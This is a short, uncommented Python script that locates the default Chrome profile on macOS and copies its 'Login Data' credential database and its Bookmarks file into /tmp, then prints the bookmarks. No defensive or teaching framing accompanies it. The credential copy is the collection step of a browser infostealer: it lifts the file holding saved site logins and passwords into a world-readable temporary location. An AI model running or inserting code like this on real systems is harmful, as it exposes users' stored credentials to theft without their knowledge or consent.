import os, shutil, sqlite3
base = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default")
shutil.copy(os.path.join(base, "Login Data"), "/tmp/ld.db")
shutil.copy(os.path.join(base, "Bookmarks"), "/tmp/bm.json")
print(open("/tmp/bm.json").read())
